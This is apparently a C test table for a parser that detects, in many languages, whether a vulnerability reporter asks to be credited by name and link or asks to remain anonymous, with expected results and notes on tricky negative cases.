	{ "Ég vil gjarnan vera nefnd sem Guðrún Ólafsdóttir.", TRUE, FALSE, "Guðrún Ólafsdóttir", NULL },
	{ "Þakkir: Einar Pálsson", TRUE, FALSE, "Einar Pálsson", NULL },
	{ "Vinsamlegast ekki nefna mig: ég vil vera nafnlaus.", TRUE, TRUE, NULL, NULL },
	{ "Ég vil ekki vera nefndur í tilkynningunni.", TRUE, TRUE, NULL, NULL },
	{ "Þið getið nefnt mig við Jón: hann veit af þessu.", FALSE, FALSE, NULL, NULL },
	{ "Nefnið mig sem tengilið ef þið hafið spurningar.", FALSE, FALSE, NULL, NULL },
	{ "Ekki nefna útgáfuna 0.10.8, hún er ekki fyrir áhrifum.", FALSE, FALSE, NULL, NULL },
	{ "Fir d'Unerkennung: Anne Hoffmann (Banque du Nord)", TRUE, FALSE, "Anne Hoffmann (Banque du Nord)", NULL },
	{ "Credit: Jean Muller (Kirchberg Fintech), https://github.com/jmuller", TRUE, FALSE,
	  "Jean Muller (Kirchberg Fintech)", "https://github.com/jmuller" },
	{ "Nennt mech w.e.g. als Claude Schmit, https://cschmit.example", TRUE, FALSE, "Claude Schmit",
	  "https://cschmit.example" },
	{ "Dir kënnt mech als Marc Thill ernimmen.", TRUE, FALSE, "Marc Thill", NULL },
	{ "Fir de Rescht: Ech sinn disponibel.", FALSE, FALSE, NULL, NULL },
	{ "Fir de Credit: net néideg, merci.", TRUE, TRUE, NULL, NULL },
	{ "Ech brauch keen Credit, fixt et just.", TRUE, TRUE, NULL, NULL },
	{ "Nennt mech net, merci.", TRUE, TRUE, NULL, NULL },
	/* round 37: a conditional about the people who tell us, "my name is
	 * fine:" or "please put our shop:"; "by name if you do that:" before
	 * the name of someone else */
	{ "If you mention the people who tell you about things, my name is fine:\nMargit Olsen. I don't have a website.",
	  TRUE, FALSE, "Margit Olsen", NULL },
	{ "If you list the people who tell you about problems, please put our shop:\nHollybrook Pottery, https://hb.example",
	  TRUE, FALSE, "Hollybrook Pottery", "https://hb.example" },
	{ "The student would be happy to be thanked by name if you do that: Jakub\nNowak, https://kn.example",
	  TRUE, FALSE, "Jakub Nowak", "https://kn.example" },
	/* round 38: a wish for a mention, then "just my name is fine, NAME";
	 * a mention of the fix somewhere is not a credit request */
	{ "If you fix it I'd like a mention, just my name is fine, Priya Raman.\n\nPriya",
	  TRUE, FALSE, "Priya Raman", NULL },
	{ "We would appreciate a credit; our names are enough: Ola Berg and Siv Lund.",
	  TRUE, FALSE, "Ola Berg and Siv Lund", NULL },
	{ "I'd like a mention of the fix in the changelog, my team reads it.", FALSE, FALSE, NULL, NULL },
	/* round 39: "my name and github:" between the request and the name;
	 * permission to put one's name where the finding is written about */
	{ "If you credit people please use my name and github: Ola Berg, https://github.example/oberg",
	  TRUE, FALSE, "Ola Berg", "https://github.example/oberg" },
	{ "You can put my name if you write about it: Tiago Reis\n\nSent from my phone", TRUE, FALSE,
	  "Tiago Reis", NULL },
	{ "You can put my name on the ticket if you need someone to call: I'm around.", FALSE, FALSE, NULL, NULL },
	/* round 35: "with my name" between the request and the name */
	{ "If you publish something about this, I would be happy to be mentioned with my name, Giulia Ferraro.",
	  TRUE, FALSE, "Giulia Ferraro", NULL },
	{ "Please credit me under my real name: Ana Ruiz (https://aruiz.example).", TRUE, FALSE, "Ana Ruiz",
	  "https://aruiz.example" },
	/* round 34: permission to name the writer, a list that may exist, a
	 * name the writer would rather not see published */
	{ "You can name me in whatever you publish: Ada Morrow,\nhttps://amorrow.example\n", TRUE, FALSE,
	  "Ada Morrow", "https://amorrow.example" },
	{ "Feel free to mention me if you write this up \u2013 Ada Morrow, https://github.com/amorrow",
	  TRUE, FALSE, "Ada Morrow", "https://github.com/amorrow" },
	{ "Happy for my name to go on it: Ada Morrow. I don't have a website.", TRUE, FALSE,
	  "Ada Morrow", NULL },
	{ "If there's a thank-you list, I'm Ada Morrow\n(https://amorrow.example).", TRUE, FALSE,
	  "Ada Morrow", "https://amorrow.example" },
	{ "I'd rather not have my name anywhere public, if that's all right.", TRUE, TRUE, NULL, NULL },
	/* round 36: permission to put the name on the advisory, the credits
	 * named between "list me" and "as", a name asked for someone else
	 * ("under his own name"), no interest in credit */
	{ "And yes, you can put my name on the advisory: Kaveh Rostami, no link\nplease.", TRUE, FALSE,
	  "Kaveh Rostami", NULL },
	{ "Feel free to add our names to the credits - Nordvik Red Team, https://nordvik.example", TRUE, FALSE,
	  "Nordvik Red Team", "https://nordvik.example" },
	{ "Please list me in the credits as Priya Raman,\nhttps://github.com/praman-sec\n", TRUE, FALSE,
	  "Priya Raman", "https://github.com/praman-sec" },
	{ "He would like to be credited under his own name, Tom\xc3\xa1s Ferreira (no link).", TRUE, FALSE,
	  "Tom\xc3\xa1s Ferreira", NULL },
	{ "I'm not interested in being credited, a fix is all I'm after.", TRUE, TRUE, NULL, NULL },
	{ "We are not after any credit here.", TRUE, TRUE, NULL, NULL },
	/* a company's notice declines credit in the third person ("does not
	 * seek public credit"); a card number is no credit */
	{ "Nordlicht CERT does not seek public credit for this\nreport.", TRUE, TRUE, NULL, NULL },
	{ "We're not seeking any acknowledgement, just a fix.", TRUE, TRUE, NULL, NULL },
	{ "The guest script is not seeking credit card numbers, only tokens.", FALSE, FALSE, NULL, NULL },
	/* the general reading ([credit.general.*]): a sentence about crediting
	 * in a request or permission mood, then a frame and a name; one case
	 * per frame */
	{ "You may put my name on it: Pieter de Boer.", TRUE, FALSE, "Pieter de Boer", NULL },
	{ "It would be lovely to get a shout-out as kaito_r.", TRUE, FALSE, "kaito_r", NULL },
	{ "If you credit people, I'm Tomasz Wierzbicki, https://tomaszw.example", TRUE, FALSE,
	  "Tomasz Wierzbicki", "https://tomaszw.example" },
	{ "If you publish an advisory, I'd love to be listed. My name is Aiko Tanabe.", TRUE, FALSE,
	  "Aiko Tanabe", NULL },
	{ "We would appreciate it if the credit went to the student, Daniel Achterberg.", TRUE, FALSE,
	  "Daniel Achterberg", NULL },
	{ "If you do a thank-you page, Ana Lima would be great.\n\nAna", TRUE, FALSE, "Ana Lima", NULL },
	{ "You can credit Pieter Jansen if you like.", TRUE, FALSE, "Pieter Jansen", NULL },
	{ "If you thank reporters, please use Lena Hoffmann.\n\nLena", TRUE, FALSE, "Lena Hoffmann", NULL },
	{ "If you write down who found things, my name is Tomasz Wilk and my page is https://twilk.example",
	  TRUE, FALSE, "Tomasz Wilk", "https://twilk.example" },
	{ "Feel free to name me in the changelog - Ruth Obi (https://ruth.example).", TRUE, FALSE, "Ruth Obi",
	  "https://ruth.example" },
	{ "If you keep a hall of fame, I am Jo Park.", TRUE, FALSE, "Jo Park", NULL },
	/* the name straight after "my name", "list names", a quoted name after
	 * the verb, the name alone after a request asked as a question, the
	 * name's clause left out */
	{ "If you can, please add my name Maren Ekdal to the thanks page.", TRUE, FALSE, "Maren Ekdal", NULL },
	{ "In case you print names anywhere: Oskar Brandt, https://obrandt.example", TRUE, FALSE, "Oskar Brandt",
	  "https://obrandt.example" },
	{ "We would love it if the changelog credited \"Fjordline Research\" (https://fjordline.example).", TRUE,
	  FALSE, "Fjordline Research", "https://fjordline.example" },
	{ "could you list me in the credits if you do any? Rafael Dominguez.\nthanks", TRUE, FALSE,
	  "Rafael Dominguez", NULL },
	{ "Credit goes to Lia Moreau from our lab, who reported it to me.", TRUE, FALSE, "Lia Moreau", NULL },
	{ "Please credit Bram Vos on my team, he wrote the exploit.", TRUE, FALSE, "Bram Vos", NULL },
	/* the general reading of a wish not to be named: a negation tied to
	 * naming the writer or their company, in a request mood */
	{ "We'd ask that our employer's name is not published anywhere.", TRUE, TRUE, NULL, NULL },
	{ "Kindly do not identify me or my company in public notes.", TRUE, TRUE, NULL, NULL },
	{ "You can publish the fix without naming us, that is fine.", TRUE, TRUE, NULL, NULL },
	{ "\xe6\xb0\x8f\xe5\x90\x8d\xe3\x81\xaf\xe6\x8e\xb2\xe8\xbc\x89\xe3\x81\x97\xe3\x81\xaa"
	  "\xe3\x81\x84\xe3\x81\xa7\xe3\x81\x8f\xe3\x81\xa0\xe3\x81\x95\xe3\x81\x84\xe3\x80\x82",
	  TRUE, TRUE, NULL, NULL },
	/* and its traps: what happened, a question, the project's documents,
	 * a negation about something else */
	{ "I was not credited in the previous advisory, please check.", FALSE, FALSE, NULL, NULL },
	{ "Would you prefer that we do not name the customer?", FALSE, FALSE, NULL, NULL },
	{ "Our tool name is not mentioned in the docs, please add it.", FALSE, FALSE, NULL, NULL },
	{ "Please do not publish the details before the fix ships; my name is on the report.", FALSE, FALSE, NULL,
	  NULL },
	/* and its traps: none of these is a request */
	{ "My credit card was charged twice, could you refund it, Anna Smith?", FALSE, FALSE, NULL, NULL },
	{ "Feel free to mention me to the team if you need more details, Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "The maintainers should get the credit, you may close this, Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "Thank you for your work, I'd be glad to help test it, Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "Do you list reporters in your advisories, or can I stay out of it: Jo?", FALSE, FALSE, NULL, NULL },
	{ "I would not need my name on it, Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "Hi, my name is Wang Lei, I would like to report a bug.", FALSE, FALSE, NULL, NULL },
	{ "If you mention me, you can reach me at jo@park.example: Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "If you thank reporters, I'd like to help more: contact Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "Feel free to name me if it helps: I think it is fixed in 0.8.5 anyway.", FALSE, FALSE, NULL, NULL },
	{ "Thanks,\nPriya Raman\nhttps://priya.example\n", FALSE, FALSE, NULL, NULL },
	{ "We credit reporters in our advisories. Tell us the name and link to use, please: Jo Park.", FALSE,
	  FALSE, NULL, NULL },
	/* not requests */
	{ "You can put my name on the list of people to notify when it ships.", FALSE, FALSE, NULL, NULL },
	{ "I'm not interested in being named the owner of that repository.", FALSE, FALSE, NULL, NULL },
	{ "We would appreciate acknowledgement of the report within three days.", FALSE, FALSE, NULL, NULL },
	{ "Feel free to mention me if you need more details: I'm around all week.", FALSE, FALSE, NULL, NULL },
	{ "Thanks,\nJohn Doe\nhttps://github.com/johndoe\n", FALSE, FALSE, NULL, NULL },
	{ "--\nKasper Lindqvist\nPlatform Security, Nordvik Hosting\n", FALSE, FALSE, NULL, NULL },
	{ "Anonymous users can call the API without a key.", FALSE, FALSE, NULL, NULL },
	{ "I'd appreciate a CVE if this qualifies.", FALSE, FALSE, NULL, NULL },
	{ "I've mentioned it to the maintainers.", FALSE, FALSE, NULL, NULL },
	/* who to write to is no credit */
	{ "You can name me as the contact person for the fix, Dana Whitfield.", FALSE, FALSE, NULL, NULL },
	{ "Please list me as your technical contact: Omar Haddad.", FALSE, FALSE, NULL, NULL },
	{ "Bu hata beni root olarak yazma yetkisine götürdü.", FALSE, FALSE, NULL, NULL },
	/* a request pattern's answer passes the general reading's traps (in the
	 * request's clause) and its name check, else the next reading is tried:
	 * a question, a card, a contact, thanks for something, a negation, the
	 * project's own ack wording, words for people in general */
	{ "Do you give credit to reporters?", FALSE, FALSE, NULL, NULL },
	{ "Would you give credit to researchers who report this kind of issue?", FALSE, FALSE, NULL, NULL },
	{ "Please credit the refund to my credit card, Anna Smith.", FALSE, FALSE, NULL, NULL },
	{ "Please acknowledge receipt and contact me, Jane Doe.", FALSE, FALSE, NULL, NULL },
	{ "Thank you for the credit to reporters in 0.8.1, Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "It is not necessary to credit me as Jo Park.", FALSE, FALSE, NULL, NULL },
	{ "Credit:\n  The advisory will credit you as: Jo Park (https://jo.example)", FALSE, FALSE, NULL, NULL },
	{ "Credit goes to the researchers.", FALSE, FALSE, NULL, NULL },
	{ "Please credit reporters fairly.", FALSE, FALSE, NULL, NULL },
	{ "Please credit the team.", FALSE, FALSE, NULL, NULL },
	{ "Credit: the team", FALSE, FALSE, NULL, NULL },
	{ "Credit: see below", FALSE, FALSE, NULL, NULL },
	{ "If you credit reporters, please use the form.", FALSE, FALSE, NULL, NULL },
	/* too long a name fails like any other, it is not a name left unsaid */
	{ "Credit goes to the researchers who found the issues in the last release of the SDK and the CLI in "
	  "the past year, all of them.", FALSE, FALSE, NULL, NULL },
	/* a trap or a failed name in one candidate, a request in the next */
	{ "Do you credit reporters? If so, please credit me as Jo Park.", TRUE, FALSE, "Jo Park", NULL },
	{ "Please credit my employer, Kestrel IR (https://kestrel-ir.example).", TRUE, FALSE, "Kestrel IR",
	  "https://kestrel-ir.example" },
	{ "Please credit our team as Nordvik Red Team (https://nordvik.example).", TRUE, FALSE,
	  "Nordvik Red Team", "https://nordvik.example" },
	/* the writer's own request whose name fails stands without a name (the
	 * From name fills it in), as does a form's "yes" */
	{ "Please credit me, I found this while testing.", TRUE, FALSE, NULL, NULL },
	{ "Please credit me as the person who found it.", TRUE, FALSE, NULL, NULL },
	{ "Please credit me as the one person who found the issues in the last release of the SDK and the CLI "
	  "in the past year.", TRUE, FALSE, NULL, NULL },
	{ "Please credit our team.", TRUE, FALSE, NULL, NULL },
	{ "Credit: yes\n\nThanks", TRUE, FALSE, NULL, NULL },
	/* real requests still read: traps outside the request's clause, names
	 * with links, handles, a team or company asked for, "credit: NAME", a
	 * lower-case name the writer marked (quoted, linked, a label's one-word
	 * answer) */
	{ "Thanks for the quick reply, please credit me as Jane Doe, thanks again.", TRUE, FALSE, "Jane Doe",
	  NULL },
	{ "Credit to Ola Berg (https://github.com/oberg), thanks for the quick fix.", TRUE, FALSE, "Ola Berg",
	  "https://github.com/oberg" },
	{ "We credit reporters in our advisories. Please credit me as Jo Park.", TRUE, FALSE, "Jo Park", NULL },
	{ "I'd like the credit to go to my company, please credit Halden Security Labs, https://halden.example",
	  TRUE, FALSE, "Halden Security Labs", "https://halden.example" },
	{ "Please credit the Foo Security Team.", TRUE, FALSE, "Foo Security Team", NULL },
	{ "Credit: Jo Park", TRUE, FALSE, "Jo Park", NULL },
	{ "credit: zoe kr (https://x.example/zoekr_sec)", TRUE, FALSE, "zoe kr", "https://x.example/zoekr_sec" },
	{ "Credit: rafsec", TRUE, FALSE, "rafsec", NULL },
	{ "Credit: n0pslide (https://github.com/n0pslide)", TRUE, FALSE, "n0pslide", "https://github.com/n0pslide" },
	{ "credit: jo_park", TRUE, FALSE, "jo_park", NULL },
	{ "Please credit me as \"quietpine\" in the advisory.", TRUE, FALSE, "quietpine", NULL },
	{ "Please credit me as @zkr@infosec.example", TRUE, FALSE, "@zkr@infosec.example", "@zkr@infosec.example" },
	/* the writer's request that gives only a link: no name (the From name
	 * fills it in), the link kept */
	{ "If you credit reporters, please use my homepage: https://kwame.example", TRUE, FALSE, NULL,
	  "https://kwame.example" },
	{ "For the credit, kindly point to my profile:\n  https://codeberg.example/ndiaye\n", TRUE, FALSE, NULL,
	  "https://codeberg.example/ndiaye" },
	{ "Please see the full write-up: https://blog.example/msb-escape", FALSE, FALSE, NULL, NULL },
	/* a question offered to the reader, "do you" left out, asks nothing */
	{ "I'll forward it to their security team. want credit?", FALSE, FALSE, NULL, NULL },
	{ "Need a mention in the advisory? Let me know.", FALSE, FALSE, NULL, NULL },
	/* a wish not to be named in the languages that say it as a negated
	 * passive, "do not name me", "without my name" (fr, es, pt, it, de, nl);
	 * a thing not mentioned is none */
	{ "Je préfère ne pas être nommé dans l'avis.", TRUE, TRUE, NULL, NULL },
	{ "Merci de ne pas mentionner mon nom ni celui de l'entreprise.", TRUE, TRUE, NULL, NULL },
	{ "Prefiero no ser nombrado en el aviso.", TRUE, TRUE, NULL, NULL },
	{ "Por favor não citem o meu nome.", TRUE, TRUE, NULL, NULL },
	{ "Per favore non menzionate il mio nome.", TRUE, TRUE, NULL, NULL },
	{ "Bitte nennen Sie weder mich noch meine Firma.", TRUE, TRUE, NULL, NULL },
	{ "Ik word liever niet genoemd in de advisory.", TRUE, TRUE, NULL, NULL },
	{ "Das Flag sollte in der Doku nicht erwähnt werden.", FALSE, FALSE, NULL, NULL },
	{ "Que no se publique el exploit antes del parche, por favor.", FALSE, FALSE, NULL, NULL },
	/* the general reading of a wish not to be named: the people or the
	 * place the writer speaks for, a state of being unnamed, a name kept
	 * out, the imperative, a wish relayed; and what happened, a role, a
	 * thing not to mention */
	{ "When you publish, please don't identify the clinic or any of its staff.", TRUE, TRUE, NULL, NULL },
	{ "I would rather stay unnamed.", TRUE, TRUE, NULL, NULL },
	{ "Please keep the hospital's name out of the advisory.", TRUE, TRUE, NULL, NULL },
	{ "Kindly leave our lab name out of anything you publish.", TRUE, TRUE, NULL, NULL },
	{ "Our build scripts keep the company name out of version strings.", FALSE, FALSE, NULL, NULL },
	{ "No names please, not mine and not the company's.", TRUE, TRUE, NULL, NULL },
	{ "The reporter asked not to be named.", TRUE, TRUE, NULL, NULL },
	{ "Our customer asked us not to mention them by name.", TRUE, TRUE, NULL, NULL },
	{ "No need to put my name anywhere.", TRUE, TRUE, NULL, NULL },
	{ "The advisory did not mention the school.", FALSE, FALSE, NULL, NULL },
	{ "I did not mention the company, please ask if you need it.", FALSE, FALSE, NULL, NULL },
	{ "Please do not mention the vulnerability publicly before the fix ships.", FALSE, FALSE, NULL, NULL },
	{ "Do not name the sandbox with a leading dash, msb rejects it.", FALSE, FALSE, NULL, NULL },
	{ "The students were not named in the logs.", FALSE, FALSE, NULL, NULL },
	/* a request relayed in the third person, the name before it (a
	 * pronoun, a question, a request for something else are none); a
	 * first name the text then gives in full is taken in full */
	{ "The finder, Kofi Mensah, wants to be acknowledged in the advisory (https://kofi.example).", TRUE,
	  FALSE, "Kofi Mensah", "https://kofi.example" },
	{ "Marek Nowak, who found this, has asked to be named in the advisory.", TRUE, FALSE, "Marek Nowak",
	  NULL },
	{ "Our student Lin Chen would like to be credited for this.", TRUE, FALSE, "Lin Chen", NULL },
	/* (#3) a coordinator's relay with the name's link or affiliation in
	 * parentheses before the verb, the sentence wrapped; a parenthesis
	 * after no name relays nothing */
	{ "The researcher, Jonas Aaltonen (https://jaaltonen.example), asks to\nbe credited in vendor advisories.",
	  TRUE, FALSE, "Jonas Aaltonen", "https://jaaltonen.example" },
	{ "Priya Raman (Northgate Labs) would like to be acknowledged in the advisory.", TRUE, FALSE,
	  "Priya Raman", NULL },
	{ "The vendor statement (see https://cert.example/case) asks to be updated by Friday.", FALSE, FALSE,
	  NULL, NULL },
	{ "The person who found it, Mara Quist, would like to be credited; her site is https://mquist.example.",
	  TRUE, FALSE, "Mara Quist", "https://mquist.example" },
	{ "I would like to be credited.", TRUE, FALSE, NULL, NULL },
	{ "Anna Berg asked to be credited, no link.", TRUE, FALSE, "Anna Berg", NULL },
	{ "She asked to be credited.", FALSE, FALSE, NULL, NULL },
	{ "Has Anna Berg asked to be credited?", FALSE, FALSE, NULL, NULL },
	{ "The reporter, Oskar Brandt, asked us to hurry.", FALSE, FALSE, NULL, NULL },
	{ "Anna Berg asked whether you credit reporters.", FALSE, FALSE, NULL, NULL },
	{ "Please credit Dana for this (Dana Whitfield, https://dw.example).", TRUE, FALSE, "Dana Whitfield",
	  "https://dw.example" },
	{ "Please thank Mara - Mara Quist, https://mq.example - she did the work.", TRUE, FALSE, "Mara Quist",
	  "https://mq.example" },
	{ "In the advisory, please credit Ilse; her full name is Ilse de Vries.", TRUE, FALSE, "Ilse de Vries",
	  NULL },
	/* (#3) a first name the text gave in full before the request, where
	 * the writer introduced the person they report for; a full name of
	 * another person, or the first name alone before, changes nothing */
	{ "We write for our analyst Tove Lindqvist, who found the flaw.\n\nTove would like to be credited,\n"
	  "no link please.", TRUE, FALSE, "Tove Lindqvist", NULL },
	{ "Our intern, Ravi Kumar, wrote the PoC.\n\nPlease credit Ravi in the advisory.", TRUE, FALSE,
	  "Ravi Kumar", NULL },
	{ "Tove found it while testing.\n\nTove would like to be credited, no link.", TRUE, FALSE, "Tove", NULL },
	{ "Our analyst Tove Lindqvist triaged it; Erik found it.\n\nErik would like to be credited.", TRUE, FALSE,
	  "Erik", NULL },
	/* a mention as the thing wished for; a naming verb before a name in a
	 * sentence about what is published */
	{ "A mention in the advisory would be nice: Sofia Brandt.", TRUE, FALSE, "Sofia Brandt", NULL },
	{ "I'd appreciate a mention in the release notes, Sofia Brandt (https://sb.example).", TRUE, FALSE,
	  "Sofia Brandt", "https://sb.example" },
	{ "A small mention would make my day - Theo Marsh.", TRUE, FALSE, "Theo Marsh", NULL },
	{ "Feel free to name Northwind Labs in the advisory.", TRUE, FALSE, "Northwind Labs", NULL },
	{ "I should mention Docker Desktop is installed too.", FALSE, FALSE, NULL, NULL },
	{ "A mention of the flag in the docs would help users: Theo Marsh.", FALSE, FALSE, NULL, NULL },
	{ "Thanks for the mention in the changelog, Theo Marsh.", FALSE, FALSE, NULL, NULL },
	{ "If you write this up, please don't name Northwind Labs.", FALSE, FALSE, NULL, NULL },
	/* several names and their affiliation: the names are counted against
	 * max_words, a short affiliation in parentheses is not; a long
	 * parenthesis is a clause and counts */
	{ "Please credit Lena Okafor, Wei Zhang and Rafael Quintero (Systems Security\nGroup, "
	  "Eastvale University), with a link to https://ssg.eastvale.example",
	  TRUE, FALSE, "Lena Okafor, Wei Zhang and Rafael Quintero (Systems Security Group, Eastvale University)",
	  "https://ssg.eastvale.example" },
	{ "Please credit Ada Moss (who found it while testing our staging cluster last Tuesday).", TRUE, FALSE,
	  NULL, NULL },
	/* no credit, said with a verb */
	{ "No credit is needed for any of this.", TRUE, TRUE, NULL, NULL },
	{ "Credit isn't necessary, we just want it fixed.", TRUE, TRUE, NULL, NULL },
	/* a credit request in the other languages people write to us in, read
	 * by the general reading's words for credit, please and "as": where it
	 * goes ("for the advisory", "if you publish thanks"), then the name,
	 * an optional company and link, or "without link" */
	{ "Im Sicherheitshinweis gerne als Lara Vogt, Vogt Labs (https://vogt.example).", TRUE, FALSE,
	  "Lara Vogt, Vogt Labs", "https://vogt.example" },
	{ "Sofern Sie Danksagungen f\u00fchren: bitte als Jens Kr\u00fcger, ohne Link.", TRUE, FALSE,
	  "Jens Kr\u00fcger", NULL },
	{ "Pour le bulletin de s\u00e9curit\u00e9, s'il vous pla\u00eet : Odile Marchand (https://om.example)",
	  TRUE, FALSE, "Odile Marchand", "https://om.example" },
	{ "Si publican reconocimientos, por favor como Pilar G\u00f3mez, sin enlace.", TRUE, FALSE,
	  "Pilar G\u00f3mez", NULL },
	{ "Se pubblicate ringraziamenti, per favore come Chiara Conti (https://cc.example).", TRUE, FALSE,
	  "Chiara Conti", "https://cc.example" },
	{ "Voor de advisory graag als Bram Visser, zonder link.", TRUE, FALSE, "Bram Visser", NULL },
	{ "F\u00f6r advisoryn g\u00e4rna som Sara Holm (https://holm.example).", TRUE, FALSE, "Sara Holm",
	  "https://holm.example" },
	{ "Pentru anun\u021b, v\u0103 rog: Ioana Radu (https://radu.example)", TRUE, FALSE, "Ioana Radu",
	  "https://radu.example" },
	{ "Untuk advisory, mohon: Dewi Lestari, tanpa tautan.", TRUE, FALSE, "Dewi Lestari", NULL },
	/* the name wrapped with its company onto the next line, before the link */
	{ "For the advisory please: Rhea Quist,\nQuist Security (https://quist.example).", TRUE, FALSE,
	  "Rhea Quist, Quist Security", "https://quist.example" },
	/* no credit needed, do not name me */
	{ "Eine Erw\u00e4hnung ist nicht notwendig.", TRUE, TRUE, NULL, NULL },
	{ "Pas besoin de me cr\u00e9diter.", TRUE, TRUE, NULL, NULL },
	{ "No hace falta nombrarme.", TRUE, TRUE, NULL, NULL },
	{ "Jag vill inte bli n\u00e4mnd i advisoryn.", TRUE, TRUE, NULL, NULL },
	{ "\u041d\u0435 \u043d\u0430\u0434\u043e \u043c\u0435\u043d\u044f \u0443\u043f\u043e\u043c\u0438\u043d\u0430\u0442\u044c.",
	  TRUE, TRUE, NULL, NULL },
	/* none: another project's advisory, a colleague, the maintainer
	 * addressed, thanks for something, a thing not named */
	{ "Bitte lesen Sie das Advisory von Podman: Podman 5.1 ist auch betroffen.", FALSE, FALSE, NULL, NULL },
	{ "Mein Kollege Uwe Brandt hat es auch gesehen, bitte fragen Sie ihn direkt.", FALSE, FALSE, NULL, NULL },
	{ "Hallo Frau Lenz, bitte als Erstes die Logs ansehen: Die Datei liegt bei.", FALSE, FALSE, NULL, NULL },
	{ "Merci pour la r\u00e9ponse, s'il vous pla\u00eet : Odile Marchand.", FALSE, FALSE, NULL, NULL },
	{ "Das Flag wird in der Doku nicht erw\u00e4hnt.", FALSE, FALSE, NULL, NULL },
	{ "Non \u00e8 necessario citare il CVE.", FALSE, FALSE, NULL, NULL },
	/* a credit noun said not to be needed, words between; consent to be
	 * named; Bulgarian please/if with the finder the writer names
	 * (paraphrases, none from the held-out mails) */
	{ "Eine Erwähnung im Sicherheitshinweis ist wirklich nicht nötig.", TRUE, TRUE, NULL, NULL },
	{ "An acknowledgement in your release notes is not really needed.", TRUE, TRUE, NULL, NULL },
	{ "La citazione nei ringraziamenti non è necessaria.", TRUE, TRUE, NULL, NULL },
	{ "Een vermelding in het bericht is niet nodig.", TRUE, TRUE, NULL, NULL },
	{ "Не е необходимо да ме споменавате никъде.", TRUE, TRUE, NULL, NULL },
	{ "謝辞への記載は不要です。", TRUE, TRUE, NULL, NULL },
	{ "크레딧은 안 주셔도 괜찮습니다.", TRUE, TRUE, NULL, NULL },
	{ "Volontiers, si c'est confirmé, je serais ravie d'être mentionnée comme Inès Morel.", TRUE, FALSE,
	  "Inès Morel", NULL },
	{ "Me alegraría ser mencionado en el aviso como Tomás Ibarra.", TRUE, FALSE, "Tomás Ibarra", NULL },
	{ "Gerne mit meinem Namen erwähnt werden: Ruth Albers (https://ruth.example).", TRUE, FALSE,
	  "Ruth Albers", "https://ruth.example" },
	{ "Ráda budu zmíněna jako Alena Dvořáková.", TRUE, FALSE, "Alena Dvořáková", NULL },
	{ "Ако ще има благодарности, моля, споменете стажанта, който го забеляза: Георги Илиев.", TRUE, FALSE,
	  "Георги Илиев", NULL },
	/* issue #3 (round 70's 814): the writer's name in another language
	 * before the name, with no link (paraphrases) */
	{ "Si sale un aviso, me gustaría que apareciera mi nombre: Remedios Calvo.", TRUE, FALSE,
	  "Remedios Calvo", NULL },
	{ "Se pubblicate qualcosa, potete mettere il mio nome, Carlo Ferrante.", TRUE, FALSE,
	  "Carlo Ferrante", NULL },
	/* ... while the name said in passing is none */
	{ "Mi nombre, Remedios Calvo, aparece en el log del contenedor.", FALSE, FALSE, NULL, NULL },
	/* negatives: a thing named, a credit card, thanks to a colleague,
	 * a required mention */
	{ "Le fichier doit être mentionné dans la documentation : README.", FALSE, FALSE, NULL, NULL },
	{ "The credit card on the account is not needed for the free tier.", FALSE, FALSE, NULL, NULL },
	{ "Благодаря на колегата Петър за помощта при тестовете.", FALSE, FALSE, NULL, NULL },
	{ "Kredit kartı bilgisi gerekli değil.", FALSE, FALSE, NULL, NULL },
	/* issue #3 (rounds 69-72: 774, 809, 811, 834, 837, 838): asking to be
	 * named in more scripts and languages, the name before or after the
	 * verb, a question answered after a sentence, a team's name before
	 * the Korean particle, and "neither ... nor" (paraphrases in words the
	 * held-out mails do not use) */
	{ "यदि आप सुरक्षा सूचना प्रकाशित करें तो कृपया मेरा नाम Priya Nair छापें। धन्यवाद", TRUE, FALSE,
	  "Priya Nair", NULL },
	{ "যদি advisory প্রকাশ করেন, অনুগ্রহ করে আমার নাম: Rahim Uddin, https://rahim.example", TRUE, FALSE,
	  "Rahim Uddin", "https://rahim.example" },
	{ "Θα ήθελα να με αναφέρετε στην ανακοίνωση: Ελένη Παππά.", TRUE, FALSE, "Ελένη Παππά", NULL },
	{ "Tafadhali ikiwa mtatoa taarifa, jina langu ni Baraka Otieno.", TRUE, FALSE, "Baraka Otieno", NULL },
	{ "Kung maglalabas kayo ng advisory, pakisama po ang pangalan ko: Liza Reyes.", TRUE, FALSE,
	  "Liza Reyes", NULL },
	{ "يسعدني أن تذكروا اسمي في الإعلان: Omar Haddad", TRUE, FALSE, "Omar Haddad", NULL },
	{ "אשמח אם תזכירו אותי בהודעה: Noa Levi", TRUE, FALSE, "Noa Levi", NULL },
	{ "اگر گزارشی منتشر کردید، لطفاً اسم من را بنویسید: Sara Karimi", TRUE, FALSE, "Sara Karimi", NULL },
	{ "ถ้ามีการประกาศ กรุณาใส่ชื่อผม: Somchai Jaidee", TRUE, FALSE, "Somchai Jaidee", NULL },
	{ "Nếu có thông báo, xin ghi tên tôi là Trần Minh.", TRUE, FALSE, "Trần Minh", NULL },
	{ "감사 표기는 Night Owls 팀 이름으로 해 주세요. 개인 이름은 빼 주세요.", TRUE, FALSE, "Night Owls", NULL },
	{ "Could you add me to the acknowledgements? My supervisor would be thrilled. Kofi Mensah - https://kofi.example",
	  TRUE, FALSE, "Kofi Mensah", "https://kofi.example" },
	{ "Bitte erwähnen Sie im Bericht weder unseren Verein noch die Kinder.", TRUE, TRUE, NULL, NULL },
	{ "Please name neither me nor my employer in whatever you publish.", TRUE, TRUE, NULL, NULL },
	{ "Ne citez ni mon nom ni celui de mon employeur, s'il vous plaît.", TRUE, TRUE, NULL, NULL },
	/* negatives: a name said in passing, a card, thanks for the fix, a
	 * question about the policy, what happened, a question with no name */
	{ "मेरा नाम Rohan Das है, मैं इस server का admin हूँ।", FALSE, FALSE, NULL, NULL },
	{ "कृपया क्रेडिट कार्ड की जानकारी न भेजें।", FALSE, FALSE, NULL, NULL },
	{ "Asante kwa kurekebisha haraka, kama kawaida.", FALSE, FALSE, NULL, NULL },
	{ "빠른 수정 감사합니다. 로그는 /tmp/out.log 로 저장됩니다.", FALSE, FALSE, NULL, NULL },
	{ "Do you credit reporters? Ask Jane Doe, https://jane.example", FALSE, FALSE, NULL, NULL },
	{ "Neither the school nor the student was named in the report.", FALSE, FALSE, NULL, NULL },
